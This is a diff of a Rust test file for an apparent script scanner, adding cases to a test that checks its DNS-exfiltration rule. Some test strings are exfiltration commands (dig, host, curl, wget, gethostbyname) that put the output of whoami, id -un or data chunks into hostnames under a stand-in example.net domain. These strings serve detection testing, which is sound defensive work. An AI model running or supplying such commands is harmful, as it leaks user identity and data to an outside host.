@@ -253,12 +253,20 @@ fn a_bidi_excerpt_quotes_the_line_of_the_finding() {
 
 #[test]
 fn a_dns_finding_needs_data_in_a_looked_up_name() {
-    for benign in ["dig +short \"$(hostname -f)\"\n", "the backup host the user configured in `BACKUP_HOST`.\n"] {
+    // A command's output in a download's path is no lookup (anthropics/skills' claude-api
+    // installs its CLI so); in the URL's host it is.
+    let release =
+        "curl -fsSL \"https://github.com/a/b/releases/download/v1/ant_$(uname -s)_$(uname -m).tar.gz\" | tar -xz\n";
+    for benign in
+        ["dig +short \"$(hostname -f)\"\n", "the backup host the user configured in `BACKUP_HOST`.\n", release]
+    {
         assert_eq!(fired(&[("run.sh", benign)]), [], "{benign:?}");
     }
     for exfil in [
         "dig $(whoami).x.example.net\n",
         "host `id -un`.x.example.net\n",
+        "curl -s http://$(id -un).x.example.net/\n",
+        "wget -q https://a$(whoami).x.example.net\n",
         "socket.gethostbyname(f'{data[i:i+60]}.q.example.net')\n",
     ] {
         assert_eq!(fired(&[("run.sh", exfil)]), [("exfil.dns", Severity::High)], "{exfil:?}");
